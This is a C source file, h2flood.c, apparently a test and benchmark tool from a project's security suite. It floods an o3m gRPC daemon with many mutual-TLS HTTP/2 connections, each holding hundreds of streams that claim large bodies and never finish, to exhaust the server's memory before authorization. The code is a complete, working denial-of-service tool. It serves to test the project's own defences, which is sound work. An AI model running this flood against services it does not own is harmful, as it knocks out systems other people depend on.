/* h2flood.c -- replays the attack "memory before authorization"
 * against an o3m daemon, at the HTTP/2 level, where a gRPC client cannot go:
 * a gRPC client always sends a whole message, and this sends streams that
 * never finish.
 *
 *   h2flood --target HOST:PORT --ca CA.pem --cert C.pem --key C.key
 *           --path /o3m.v1.Active/Recommend [--connections 8] [--streams 250]
 *           [--body BYTES | --body-recommend K,D0 | --body-mask-batch K,D]
 *           [--hold-s 10] [--server-name NAME]
 *
 * It opens --connections mutual-TLS connections (ALPN h2) with the given
 * certificate and submits --streams gRPC requests on each, none of them
 * ever half-closed. With --body N > 0 each stream then sends a gRPC length
 * prefix that claims N bytes and a body one byte short of it (N - 1 zero
 * bytes), and stops; with --body 0 (the default) only the headers.
 * --body-recommend K,D0 and --body-mask-batch K,D claim the largest request
 * the daemons accept under max_candidates K (o3m_wire_recommend_max_bytes,
 * o3m_wire_mask_batch_max_bytes), the size the attack needs. A server
 * that limits streams per connection makes nghttp2 queue the rest, which
 * it opens as earlier ones close, so a server that refuses at once sees all
 * of them in turn. After --hold-s seconds it closes everything and prints
 * one line:
 *
 *   h2flood: connections=C/N opened=O open_at_end=E max_open=M answered=A
 *            status[CODE]=K ... rst=R goaway=G bytes_sent=B
 *
 * opened counts streams whose HEADERS went out, open_at_end those the
 * server had not closed when the hold ended, answered those that got a
 * grpc-status (status[CODE] per code), rst those reset by the server
 * without one. Exit 0 when at least one connection was made, 1 otherwise,
 * 2 on a usage error. The server's certificate is verified against --ca
 * (its name is not checked: the daemons' certificates all name localhost
 * and 127.0.0.1, and the attack is about what a CA-signed peer can do).
 * Used by tests/flood_e2e.sh and eval/bench/attack-memory.sh. */
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netdb.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <nghttp2/nghttp2.h>

#include "o3m_wire.h"
#include <openssl/err.h>
#include <openssl/ssl.h>

#define MAX_CONNECTIONS 512
#define MAX_STREAMS 100000
#define MAX_STATUS 17

typedef struct stream_ctx {
  size_t left;    /* bytes of prefix and body still to send */
  size_t sent;    /* bytes sent so far (prefix included) */
  int opened;     /* HEADERS went out */
  int closed;     /* the server closed it */
  int answered;   /* a grpc-status came */
} stream_ctx;

typedef struct conn {
  int fd;
  SSL *ssl;
  nghttp2_session *h2;
  stream_ctx *streams;
  int dead;
} conn;

static struct {
  const char *target, *ca, *cert, *key, *path, *server_name;
  int connections, streams, hold_s;
  long body;
} opt = {NULL, NULL, NULL, NULL, NULL, NULL, 8, 250, 10, 0};

static long n_opened, n_open, max_open, n_answered, n_rst, n_goaway, status_count[MAX_STATUS];
static unsigned long long bytes_sent;
static char host[256], port[16];

static void die(const char *msg) {
  fprintf(stderr, "h2flood: %s\n", msg);
  exit(1);
}

/* ---- nghttp2 callbacks ---- */

static ssize_t send_cb(nghttp2_session *h2, const uint8_t *data, size_t len, int flags,
                       void *user) {
  (void)h2;
  (void)flags;
  conn *c = user;
  ERR_clear_error();
  int n = SSL_write(c->ssl, data, (int)len);
  if (n > 0) return n;
  int err = SSL_get_error(c->ssl, n);
  if (err == SSL_ERROR_WANT_WRITE || err == SSL_ERROR_WANT_READ) return NGHTTP2_ERR_WOULDBLOCK;
  return NGHTTP2_ERR_CALLBACK_FAILURE;
}

static ssize_t recv_cb(nghttp2_session *h2, uint8_t *buf, size_t len, int flags, void *user) {
  (void)h2;
  (void)flags;
  conn *c = user;
  ERR_clear_error();
  int n = SSL_read(c->ssl, buf, (int)len);
  if (n > 0) return n;
  int err = SSL_get_error(c->ssl, n);
  if (err == SSL_ERROR_WANT_READ || err == SSL_ERROR_WANT_WRITE) return NGHTTP2_ERR_WOULDBLOCK;
  if (err == SSL_ERROR_ZERO_RETURN) return NGHTTP2_ERR_EOF;
  return NGHTTP2_ERR_CALLBACK_FAILURE;
}

/* The body: a gRPC prefix claiming opt.body bytes, then opt.body - 1 zero
 * bytes; then the stream waits for ever (DEFERRED, never resumed). */
static ssize_t body_cb(nghttp2_session *h2, int32_t id, uint8_t *buf, size_t len,
                       uint32_t *flags, nghttp2_data_source *src, void *user) {
  (void)h2;
  (void)id;
  (void)flags;
  (void)user;
  stream_ctx *st = src->ptr;
  if (st->left == 0) return NGHTTP2_ERR_DEFERRED;
  size_t n = st->left < len ? st->left : len;
  memset(buf, 0, n);
  for (size_t i = 0; i < n; i++) {
    size_t at = st->sent + i; /* position in the stream's bytes */
    if (at >= 1 && at <= 4) buf[i] = (uint8_t)((uint32_t)opt.body >> (8 * (4 - at)));
  }
  st->left -= n;
  st->sent += n;
  bytes_sent += n;
  return (ssize_t)n;
}

static int frame_send_cb(nghttp2_session *h2, const nghttp2_frame *f, void *user) {
  (void)user;
  if (f->hd.type != NGHTTP2_HEADERS) return 0;
  stream_ctx *st = nghttp2_session_get_stream_user_data(h2, f->hd.stream_id);
  if (st && !st->opened) {
    st->opened = 1;
    n_opened++;
    if (++n_open > max_open) max_open = n_open;
  }
  return 0;
}

static int header_cb(nghttp2_session *h2, const nghttp2_frame *f, const uint8_t *name,
                     size_t namelen, const uint8_t *value, size_t valuelen, uint8_t flags,
                     void *user) {
  (void)flags;
  (void)user;
  if (namelen != 11 || memcmp(name, "grpc-status", 11) != 0) return 0;
  stream_ctx *st = nghttp2_session_get_stream_user_data(h2, f->hd.stream_id);
  if (!st || st->answered) return 0;
  st->answered = 1;
  n_answered++;
  char v[8] = {0};
  memcpy(v, value, valuelen < 7 ? valuelen : 7);
  int code = atoi(v);
  if (code >= 0 && code < MAX_STATUS) status_count[code]++;
  return 0;
}

static int stream_close_cb(nghttp2_session *h2, int32_t id, uint32_t error_code, void *user) {
  (void)error_code;
  (void)user;
  stream_ctx *st = nghttp2_session_get_stream_user_data(h2, id);
  if (!st || st->closed) return 0;
  st->closed = 1;
  if (st->opened) n_open--;
  if (!st->answered) n_rst++;
  return 0;
}

static int frame_recv_cb(nghttp2_session *h2, const nghttp2_frame *f, void *user) {
  (void)h2;
  (void)user;
  if (f->hd.type == NGHTTP2_GOAWAY) n_goaway++;
  return 0;
}

/* ---- connections ---- */

static int tcp_connect(void) {
  struct addrinfo hints, *res;
  memset(&hints, 0, sizeof hints);
  hints.ai_socktype = SOCK_STREAM;
  if (getaddrinfo(host, port, &hints, &res) != 0) return -1;
  int fd = socket(res->ai_family, SOCK_STREAM, 0);
  if (fd >= 0 && connect(fd, res->ai_addr, res->ai_addrlen) != 0) {
    close(fd);
    fd = -1;
  }
  freeaddrinfo(res);
  return fd;
}

static SSL_CTX *tls_context(void) {
  SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
  if (!ctx) die("cannot create a TLS context");
  if (SSL_CTX_load_verify_locations(ctx, opt.ca, NULL) != 1) die("cannot read --ca");
  if (SSL_CTX_use_certificate_chain_file(ctx, opt.cert) != 1) die("cannot read --cert");
  if (SSL_CTX_use_PrivateKey_file(ctx, opt.key, SSL_FILETYPE_PEM) != 1) die("cannot read --key");
  SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);
  SSL_CTX_set_mode(ctx, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
  static const unsigned char alpn[] = {2, 'h', '2'};
  SSL_CTX_set_alpn_protos(ctx, alpn, sizeof alpn);
  return ctx;
}

static int conn_open(conn *c, SSL_CTX *ctx, nghttp2_session_callbacks *cbs) {
  memset(c, 0, sizeof *c);
  c->fd = tcp_connect();
  if (c->fd < 0) return -1;
  c->ssl = SSL_new(ctx);
  SSL_set_fd(c->ssl, c->fd);
  SSL_set_tlsext_host_name(c->ssl, (char *)(opt.server_name ? opt.server_name : "localhost"));
  if (SSL_connect(c->ssl) != 1) {
    SSL_free(c->ssl);
    close(c->fd);
    return -1;
  }
  const unsigned char *proto = NULL;
  unsigned plen = 0;
  SSL_get0_alpn_selected(c->ssl, &proto, &plen);
  if (plen != 2 || memcmp(proto, "h2", 2) != 0) {
    SSL_free(c->ssl);
    close(c->fd);
    return -1;
  }
  fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);
  nghttp2_session_client_new(&c->h2, cbs, c);
  /* A large window for the server's answers; the flood is in our sends. */
  nghttp2_settings_entry set[] = {{NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, 1 << 20}};
  nghttp2_submit_settings(c->h2, NGHTTP2_FLAG_NONE, set, 1);
  c->streams = calloc((size_t)opt.streams, sizeof *c->streams);
  if (!c->streams) die("out of memory");
  char authority[300];
  snprintf(authority, sizeof authority, "%s:%s", host, port);
#define HDR(n, v) {(uint8_t *)(n), (uint8_t *)(v), sizeof(n) - 1, strlen(v), NGHTTP2_NV_FLAG_NONE}
  nghttp2_nv hdr[] = {HDR(":method", "POST"), HDR(":scheme", "https"),
                      HDR(":path", opt.path), HDR(":authority", authority),
                      HDR("content-type", "application/grpc"), HDR("te", "trailers")};
  for (int i = 0; i < opt.streams; i++) {
    stream_ctx *st = &c->streams[i];
    st->left = opt.body > 0 ? (size_t)opt.body + 4 : 0; /* 5-byte prefix + body - 1 */
    nghttp2_data_provider dp = {.source.ptr = st, .read_callback = body_cb};
    if (nghttp2_submit_request(c->h2, NULL, hdr, sizeof hdr / sizeof hdr[0], &dp, st) < 0)
      die("cannot submit a request");
  }
  return 0;
}

/* One round of reads and writes on c; marks it dead when it ends. */
static void conn_pump(conn *c, short revents) {
  if (c->dead) return;
  if ((revents & (POLLIN | POLLHUP | POLLERR)) || SSL_pending(c->ssl) > 0) {
    if (nghttp2_session_recv(c->h2) != 0) c->dead = 1;
  }
  if (!c->dead && nghttp2_session_send(c->h2) != 0) c->dead = 1;
  if (!c->dead && !nghttp2_session_want_read(c->h2) && !nghttp2_session_want_write(c->h2))
    c->dead = 1;
}

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static void usage(void) {
  fprintf(stderr, "usage: h2flood --target HOST:PORT --ca CA --cert CERT --key KEY --path PATH\n"
                  "               [--connections N] [--streams S] [--hold-s T] [--server-name NAME]\n"
                  "               [--body BYTES | --body-recommend K,D0 | --body-mask-batch K,D]\n");
  exit(2);
}

int main(int argc, char **argv) {
  static const struct option longopts[] = {
      {"target", 1, 0, 't'}, {"ca", 1, 0, 'a'},          {"cert", 1, 0, 'c'},
      {"key", 1, 0, 'k'},    {"path", 1, 0, 'p'},        {"connections", 1, 0, 'n'},
      {"streams", 1, 0, 's'}, {"body", 1, 0, 'b'},       {"hold-s", 1, 0, 'h'},
      {"server-name", 1, 0, 'S'}, {"body-recommend", 1, 0, 'R'},
      {"body-mask-batch", 1, 0, 'M'}, {0, 0, 0, 0}};
  int k, d;
  int ch;
  while ((ch = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
    switch (ch) {
    case 't': opt.target = optarg; break;
    case 'a': opt.ca = optarg; break;
    case 'c': opt.cert = optarg; break;
    case 'k': opt.key = optarg; break;
    case 'p': opt.path = optarg; break;
    case 'n': opt.connections = atoi(optarg); break;
    case 's': opt.streams = atoi(optarg); break;
    case 'b': opt.body = atol(optarg); break;
    case 'h': opt.hold_s = atoi(optarg); break;
    case 'S': opt.server_name = optarg; break;
    case 'R':
    case 'M':
      if (sscanf(optarg, "%d,%d", &k, &d) != 2) usage();
      opt.body = ch == 'R' ? o3m_wire_recommend_max_bytes(k, d) : o3m_wire_mask_batch_max_bytes(k, d);
      if (opt.body <= 0) usage();
      break;
    default: usage();
    }
  }
  if (!opt.target || !opt.ca || !opt.cert || !opt.key || !opt.path || opt.path[0] != '/' ||
      opt.connections < 1 || opt.connections > MAX_CONNECTIONS || opt.streams < 1 ||
      opt.streams > MAX_STREAMS || opt.body < 0 || opt.body > (1L << 30) || opt.hold_s < 0)
    usage();
  const char *colon = strrchr(opt.target, ':');
  if (!colon || (size_t)(colon - opt.target) >= sizeof host || strlen(colon + 1) >= sizeof port)
    usage();
  memcpy(host, opt.target, (size_t)(colon - opt.target));
  strcpy(port, colon + 1);

  SSL_CTX *ctx = tls_context();
  nghttp2_session_callbacks *cbs;
  nghttp2_session_callbacks_new(&cbs);
  nghttp2_session_callbacks_set_send_callback(cbs, send_cb);
  nghttp2_session_callbacks_set_recv_callback(cbs, recv_cb);
  nghttp2_session_callbacks_set_on_frame_send_callback(cbs, frame_send_cb);
  nghttp2_session_callbacks_set_on_frame_recv_callback(cbs, frame_recv_cb);
  nghttp2_session_callbacks_set_on_header_callback(cbs, header_cb);
  nghttp2_session_callbacks_set_on_stream_close_callback(cbs, stream_close_cb);

  conn *cs = calloc((size_t)opt.connections, sizeof *cs);
  struct pollfd *pfd = calloc((size_t)opt.connections, sizeof *pfd);
  if (!cs || !pfd) die("out of memory");
  int made = 0;
  for (int i = 0; i < opt.connections; i++) {
    if (conn_open(&cs[i], ctx, cbs) == 0)
      made++;
    else
      cs[i].dead = 1, cs[i].fd = -1;
  }
  double end = now_s() + opt.hold_s;
  for (;;) {
    double left = end - now_s();
    if (left <= 0) break;
    int live = 0;
    for (int i = 0; i < opt.connections; i++) {
      pfd[i].fd = cs[i].dead ? -1 : cs[i].fd;
      pfd[i].events = 0;
      pfd[i].revents = 0;
      if (cs[i].dead) continue;
      live++;
      if (nghttp2_session_want_read(cs[i].h2)) pfd[i].events |= POLLIN;
      if (nghttp2_session_want_write(cs[i].h2)) pfd[i].events |= POLLOUT;
    }
    if (!live) break;
    int wait = left > 0.1 ? 100 : (int)(left * 1000) + 1;
    if (poll(pfd, (nfds_t)opt.connections, wait) < 0 && errno != EINTR) break;
    for (int i = 0; i < opt.connections; i++) conn_pump(&cs[i], pfd[i].revents);
  }
  printf("h2flood: body=%ld connections=%d/%d opened=%ld open_at_end=%ld max_open=%ld answered=%ld",
         opt.body, made, opt.connections, n_opened, n_open, max_open, n_answered);
  for (int k = 0; k < MAX_STATUS; k++)
    if (status_count[k]) printf(" status[%d]=%ld", k, status_count[k]);
  printf(" rst=%ld goaway=%ld bytes_sent=%llu\n", n_rst, n_goaway, bytes_sent);
  fflush(stdout);
  for (int i = 0; i < opt.connections; i++) {
    if (cs[i].h2) nghttp2_session_del(cs[i].h2);
    if (cs[i].ssl) SSL_free(cs[i].ssl);
    if (cs[i].fd >= 0) close(cs[i].fd);
    free(cs[i].streams);
  }
  free(cs);
  free(pfd);
  nghttp2_session_callbacks_del(cbs);
  SSL_CTX_free(ctx);
  return made > 0 ? 0 : 1;
}
